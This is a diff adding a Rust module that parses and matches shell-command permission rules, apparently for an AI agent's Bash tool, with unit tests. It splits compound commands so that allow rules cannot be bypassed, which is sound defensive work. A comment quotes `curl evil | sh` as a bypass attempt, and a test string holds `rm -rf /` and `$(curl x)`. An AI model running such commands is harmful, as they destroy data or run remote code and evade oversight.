@@ -1,0 +1,216 @@
+//! `Bash(…)` rules: exact commands, `prefix:*`, and `*` wildcards.
+//!
+//! The danger with command rules is a compound command: `Bash(npm test:*)`
+//! must not allow `npm test && curl evil | sh`. So a command is first split
+//! into its simple commands, and rules are matched against each part, never
+//! against the compound text with a wildcard. Splitting has two flavours:
+//! - the real parse (the same bash parser the Bash tool uses); only it may
+//!   *allow*, and if it fails nothing is allowed part by part;
+//! - a crude split on every operator character, used only to look for
+//!   *deny* and *ask* matches. It over-splits (quotes are ignored), which can
+//!   only find more denials, never fewer.
+
+use regex::Regex;
+
+/// A parsed command specifier.
+#[derive(Clone, Debug)]
+pub(crate) struct CommandPattern {
+    kind: Kind,
+}
+
+#[derive(Clone, Debug)]
+enum Kind {
+    /// `Bash(*)`: every command.
+    Any,
+    /// No wildcard: the whole simple command, whitespace-insensitive.
+    Exact(String),
+    /// `prefix:*`, `…*…`: an anchored regex.
+    Wildcard(Regex),
+}
+
+impl CommandPattern {
+    pub(crate) fn parse(spec: &str) -> Result<CommandPattern, String> {
+        let spec = spec.trim();
+        if spec.is_empty() {
+            return Err("empty command pattern (write `Bash` to name every command)".into());
+        }
+        // `npm run:*` is the older spelling of `npm run *`.
+        let spec = match spec.strip_suffix(":*") {
+            Some(prefix) => format!("{} *", prefix.trim_end()),
+            None => spec.to_string(),
+        };
+        if spec.contains(":*") {
+            return Err("`:*` may only end a command pattern, as in `Bash(npm run:*)`".into());
+        }
+        let trimmed = spec.trim();
+        if trimmed.chars().all(|c| c == '*' || c.is_whitespace()) {
+            return Ok(CommandPattern { kind: Kind::Any });
+        }
+        if !trimmed.contains('*') {
+            return Ok(CommandPattern {
+                kind: Kind::Exact(words(trimmed)),
+            });
+        }
+        // A trailing ` *` is a prefix with a word boundary, and also matches
+        // the bare prefix: `ls *` covers `ls` and `ls -la`, not `lsof`.
+        let regex = match trimmed.strip_suffix('*') {
+            Some(head) if head.ends_with(char::is_whitespace) => {
+                format!("^{}(?:\\s.*)?$", wildcard_regex(head.trim_end()))
+            }
+            _ => format!("^{}$", wildcard_regex(trimmed)),
+        };
+        let regex = Regex::new(&format!("(?s){regex}"))
+            .map_err(|e| format!("cannot compile the command pattern: {e}"))?;
+        Ok(CommandPattern {
+            kind: Kind::Wildcard(regex),
+        })
+    }
+
+    /// Whether one simple command (or a whole command text) matches.
+    pub(crate) fn matches(&self, command: &str) -> bool {
+        let command = command.trim();
+        match &self.kind {
+            Kind::Any => true,
+            Kind::Exact(text) => words(command) == *text,
+            Kind::Wildcard(re) => re.is_match(command),
+        }
+    }
+
+    /// Exact patterns may match a whole compound command as written: the
+    /// user spelled out every part.
+    pub(crate) fn is_exact(&self) -> bool {
+        matches!(self.kind, Kind::Exact(_))
+    }
+
+    pub(crate) fn is_any(&self) -> bool {
+        matches!(self.kind, Kind::Any)
+    }
+}
+
+/// Whitespace runs folded to one space, so `npm  test` is `npm test`.
+fn words(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+fn wildcard_regex(pattern: &str) -> String {
+    let mut out = String::new();
+    let mut chars = pattern.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '*' {
+            out.push_str(".*");
+        } else if c.is_whitespace() {
+            while chars.peek().is_some_and(|n| n.is_whitespace()) {
+                chars.next();
+            }
+            out.push_str("\\s+");
+        } else {
+            out.push_str(&regex::escape(c.encode_utf8(&mut [0; 4])));
+        }
+    }
+    out
+}
+
+/// One simple command of a compound command.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(crate) struct Part {
+    pub text: String,
+    /// The shell classifier says it has no side effects.
+    pub read_only: bool,
+}
+
+/// A command seen three ways, for the three kinds of rule lookups.
+#[derive(Clone, Debug)]
+pub(crate) struct CommandParts {
+    pub whole: String,
+    /// The parser's simple commands; `None` when the command did not parse.
+    pub parsed: Option<Vec<Part>>,
+    /// Over-split pieces, for deny and ask lookups only.
+    pub crude: Vec<String>,
+}
+
+impl CommandParts {
+    pub(crate) fn new(command: &str) -> CommandParts {
+        CommandParts {
+            whole: command.trim().to_string(),
+            parsed: parse_parts(command),
+            crude: crude_split(command),
+        }
+    }
+
+    /// Every text a deny or ask rule should be tried against.
+    pub(crate) fn suspects(&self) -> impl Iterator<Item = &str> {
+        std::iter::once(self.whole.as_str())
+            .chain(self.parsed.iter().flatten().map(|p| p.text.as_str()))
+            .chain(self.crude.iter().map(String::as_str))
+    }
+}
+
+/// Operator characters: anything after one of these may be another command.
+const OPERATORS: &[char] = &[';', '&', '|', '\n', '(', ')', '`', '<', '>', '{', '}'];
+
+fn crude_split(command: &str) -> Vec<String> {
+    command
+        .replace("$(", "\n")
+        .split(OPERATORS)
+        .map(str::trim)
+        .filter(|s| !s.is_empty())
+        .map(str::to_string)
+        .collect()
+}
+
+/// Until the shell parser is available, only commands with no shell syntax
+/// at all are split (into themselves); anything else is "did not parse".
+fn parse_parts(command: &str) -> Option<Vec<Part>> {
+    let trimmed = command.trim();
+    let plain = !trimmed.is_empty()
+        && !trimmed.contains(OPERATORS)
+        && !trimmed.contains(['$', '\\', '"', '\'', '*', '?', '[', '~', '#']);
+    plain.then(|| {
+        vec![Part {
+            text: trimmed.to_string(),
+            read_only: false,
+        }]
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn m(pattern: &str, command: &str) -> bool {
+        CommandPattern::parse(pattern).unwrap().matches(command)
+    }
+
+    #[test]
+    fn exact_prefix_and_wildcards() {
+        assert!(m("npm test", "npm test"));
+        assert!(m("npm test", "  npm   test "));
+        assert!(!m("npm test", "npm test --watch"));
+        assert!(m("npm run:*", "npm run"));
+        assert!(m("npm run:*", "npm run build"));
+        assert!(!m("npm run:*", "npm runx"));
+        assert!(m("ls *", "ls -la"));
+        assert!(!m("ls *", "lsof"));
+        assert!(m("ls*", "lsof"));
+        assert!(m("git * main", "git push origin main"));
+        assert!(!m("git * main", "git push origin main2"));
+        assert!(m("*", "anything at all"));
+        assert!(m("* --version", "node --version"));
+        assert!(!m("a.b", "aXb"));
+    }
+
+    #[test]
+    fn malformed_patterns_are_errors() {
+        assert!(CommandPattern::parse("").is_err());
+        assert!(CommandPattern::parse("npm:* run").is_err());
+    }
+
+    #[test]
+    fn crude_split_over_splits() {
+        let parts = CommandParts::new("npm test && echo 'a;b' | rm -rf / $(curl x)");
+        let crude: Vec<&str> = parts.crude.iter().map(String::as_str).collect();
+        assert!(crude.contains(&"rm -rf /"));
+        assert!(crude.contains(&"curl x"));
+        assert!(parts.parsed.is_none());
+    }
+}
